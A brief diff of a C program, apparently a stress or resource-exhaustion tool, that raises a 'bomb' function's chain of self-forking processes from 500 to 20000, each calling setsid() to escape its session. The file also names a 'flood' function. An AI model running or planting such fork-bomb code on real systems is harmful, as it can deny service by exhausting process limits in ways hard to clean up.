@@ -47,7 +47,7 @@ static void flood(const char *megabytes) {
 
 /* Forks and forks: each makes the next, which leaves for a session of its own. */
 static void bomb(void) {
-    for (int n = 0; n < 500 && fork() == 0; n++) {
+    for (int n = 0; n < 20000 && fork() == 0; n++) {
         setsid();
     }
     sleep(60);
